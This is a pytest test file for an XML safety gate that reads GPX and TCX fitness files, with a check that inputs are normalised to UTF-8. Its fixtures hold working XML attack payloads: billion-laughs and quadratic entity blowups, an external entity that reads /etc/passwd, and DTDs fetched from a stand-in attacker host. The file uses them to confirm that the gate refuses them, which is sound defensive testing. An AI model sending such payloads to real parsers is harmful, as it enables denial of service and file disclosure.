"""The XML gate refuses entity and DTD attacks fast, and settles encodings."""

from __future__ import annotations

import codecs
import time

import pytest
from lxml import etree

from riskcheck.errors import FileProblem
from riskcheck.readers.base import ReadOptions
from riskcheck.readers.gpx.reader import read_gpx
from riskcheck.readers.tcx.reader import read_tcx
from riskcheck.readers.xml.safety import checked_xml, safe_parser

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [
  <!ENTITY lol "lol">
""" + b"".join(
    f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
    for i in range(1, 10)) + b"""]>
<gpx version="1.1"><trk><name>&lol9;</name></trk></gpx>"""

QUADRATIC = (b'<?xml version="1.0"?>\n<!DOCTYPE gpx [<!ENTITY a "' + b"x" * 50_000 + b'">]>\n<gpx>'
             + b"&a;" * 50_000 + b"</gpx>")

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gpx version="1.1"><trk><name>&xxe;</name></trk></gpx>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE TrainingCenterDatabase SYSTEM "http://attacker.example/evil.dtd">
<TrainingCenterDatabase/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<gpx/>"""

ATTACKS = {
    "billion_laughs": (BILLION_LAUGHS, "entities"),
    "quadratic_blowup": (QUADRATIC, "entities"),
    "external_entity": (EXTERNAL_ENTITY, "entities"),
    "external_dtd": (EXTERNAL_DTD, "external DTD"),
    "parameter_entity": (PARAMETER_ENTITY, "entities"),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_refused_quickly(name):
    document, reason = ATTACKS[name]
    started = time.perf_counter()
    with pytest.raises(FileProblem) as refused:
        checked_xml(document)
    assert time.perf_counter() - started < 0.5
    assert refused.value.reason.startswith("refused:") and reason in refused.value.reason


@pytest.mark.parametrize("reader", [read_gpx, read_tcx])
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_readers_refuse_attacks(reader, name):
    started = time.perf_counter()
    with pytest.raises(FileProblem, match="^refused:"):
        reader(ATTACKS[name][0], name, ReadOptions())
    assert time.perf_counter() - started < 0.5


def test_plain_doctype_passes():
    document = b'<?xml version="1.0"?>\n<!DOCTYPE gpx>\n<gpx version="1.1"/>'
    assert etree.fromstring(checked_xml(document), safe_parser()).tag == "gpx"


def test_safe_parser_does_not_expand_entities_even_when_asked():
    # Defence in depth: should a document ever pass the gate, lxml must still not expand.
    root = etree.fromstring(b'<!DOCTYPE a [<!ENTITY e "expanded">]><a>&e;</a>', safe_parser())
    assert "expanded" not in etree.tostring(root).decode()


GPX_TEXT = ('<?xml version="1.0" encoding="{enc}"?>\n<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1">'
            '<trk><name>Läufchen</name></trk></gpx>')


@pytest.mark.parametrize("codec, bom, declared", [
    ("utf-8", codecs.BOM_UTF8, "UTF-8"),
    ("utf-16-le", codecs.BOM_UTF16_LE, "UTF-16"),
    ("utf-16-be", codecs.BOM_UTF16_BE, "UTF-16"),
    ("iso-8859-1", b"", "ISO-8859-1"),
])
def test_encodings_become_utf8_without_bom(codec, bom, declared):
    data = bom + GPX_TEXT.format(enc=declared).encode(codec)
    out = checked_xml(data)
    assert out.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    root = etree.fromstring(out, safe_parser())
    assert root.find(".//{*}name").text == "Läufchen"


def test_undecodable_bytes_are_a_file_problem():
    with pytest.raises(FileProblem, match="not valid UTF-8"):
        checked_xml(b'<?xml version="1.0" encoding="UTF-8"?><gpx>\xff\xfe\xfa</gpx>')
